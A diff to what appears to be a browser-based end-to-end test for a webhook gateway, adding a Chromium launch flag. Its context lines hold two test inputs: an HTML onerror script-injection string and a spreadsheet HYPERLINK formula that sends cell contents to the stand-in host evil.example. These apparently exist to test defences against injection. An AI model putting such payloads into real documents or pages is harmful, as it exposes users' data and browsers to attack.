@@ -4,6 +4,7 @@ import { startWebhookReceiver, type WebhookReceiver } from '@sidenote/gateway/te
 import { signedHeaders } from '@sidenote/gateway/webhooks/signature';
 import { findChromium } from '../rig/browser.ts';
 import { type RunningGateway, startGatewayProcess } from '../rig/gateway.ts';
+import { lean } from '../rig/lean-chromium.ts';
 
 const markup = '<img src=x onerror=window.taken=1>';
 const formula = '=HYPERLINK("https://evil.example/?"&A1,"x")';
@@ -20,7 +21,7 @@ test.beforeAll(async () => {
   [gateway, receiver, browser] = await Promise.all([
     startGatewayProcess(),
     startWebhookReceiver(),
-    chromium.launch({ executablePath, args: process.getuid?.() === 0 ? ['--no-sandbox'] : [] }),
+    chromium.launch({ executablePath, args: [lean, ...(process.getuid?.() === 0 ? ['--no-sandbox'] : [])] }),
   ]);
   page = await (
     await browser.newContext({ viewport: { width: 1_280, height: 900 }, reducedMotion: 'reduce' })
